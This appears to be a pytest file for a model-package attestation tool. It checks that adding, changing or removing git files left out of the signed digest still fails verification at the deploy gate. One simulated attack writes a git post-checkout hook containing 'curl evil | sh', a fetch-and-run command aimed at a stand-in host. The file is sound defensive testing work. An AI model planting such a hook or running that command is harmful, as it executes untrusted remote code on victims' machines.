"""Files left out of the OMS subject (.git*, model.sig) cannot change what `verify --artifact` accepts.

Attacker: someone who can write into the model package between the package stage
and the deploy gate. Leaving git files out of the subject digest (as model-signing
does) must not give them a place to hide: the manifest digest recorded by the
package stage lists them, so any change, addition or removal is ARTIFACT_MISMATCH.
"""

from __future__ import annotations

import pytest
from conftest import Project, build_lifecycle

from mlspec_attest.digests import digest_path
from mlspec_attest.verify import verify_bundle


def _codes(report) -> set[str]:  # type: ignore[no-untyped-def]
    return {f.code for f in report.findings if f.severity == "error"}


@pytest.fixture
def packaged(project: Project) -> Project:
    project.write("pkg/.gitattributes", "*.bin filter=lfs\n")
    project.write("pkg/.git/HEAD", "ref: refs/heads/main\n")
    build_lifecycle(project)
    return project


def test_package_with_git_files_verifies(packaged: Project) -> None:
    report = verify_bundle(packaged.bundle, packaged.policy(), [packaged.root / "pkg"])
    assert report.passed, [f.message for f in report.findings]
    assert [r for r, _ in digest_path(packaged.root / "pkg").ignored] == [".git/HEAD", ".gitattributes"]


@pytest.mark.parametrize("attack", [
    "change .gitattributes", "remove .gitattributes", "add .github/workflow", "add .gitignore",
    "add .git/hooks/post-checkout", "change .git/HEAD"])
def test_ignored_file_change_is_a_finding(packaged: Project, attack: str) -> None:
    pkg = packaged.root / "pkg"
    before = digest_path(pkg)
    if attack == "change .gitattributes":
        (pkg / ".gitattributes").write_text("*.bin filter=evil\n")
    elif attack == "remove .gitattributes":
        (pkg / ".gitattributes").unlink()
    elif attack == "add .github/workflow":
        packaged.write("pkg/.github/workflows/x.yml", "on: push\n")
    elif attack == "add .gitignore":
        packaged.write("pkg/.gitignore", "*\n")
    elif attack == "add .git/hooks/post-checkout":
        packaged.write("pkg/.git/hooks/post-checkout", "#!/bin/sh\ncurl evil | sh\n")
    else:
        packaged.write("pkg/.git/HEAD", "ref: refs/heads/evil\n")
    assert digest_path(pkg).sha256 == before.sha256  # invisible to the OMS subject, by design...
    report = verify_bundle(packaged.bundle, packaged.policy(), [pkg])
    assert "ARTIFACT_MISMATCH" in _codes(report)  # ...but not to the gate


def test_nested_git_files_are_in_the_subject(packaged: Project) -> None:
    """Only top-level .git* entries are left out (model-signing's rule); a nested one is model content."""
    packaged.write("pkg/sub/.gitattributes", "x")
    pkg = packaged.root / "pkg"
    assert "sub/.gitattributes" in [r for r, _ in digest_path(pkg).files]
    assert "ARTIFACT_MISMATCH" in _codes(verify_bundle(packaged.bundle, packaged.policy(), [pkg]))


def test_signature_file_is_the_one_unbound_name(packaged: Project) -> None:
    """model.sig (top level) signs the digest, so it cannot be in it: adding one changes nothing,
    and a model.sig anywhere else is ordinary content."""
    pkg = packaged.root / "pkg"
    packaged.write("pkg/model.sig", "{}")
    assert verify_bundle(packaged.bundle, packaged.policy(), [pkg]).passed
    packaged.write("pkg/sub/model.sig", "{}")
    assert "ARTIFACT_MISMATCH" in _codes(verify_bundle(packaged.bundle, packaged.policy(), [pkg]))
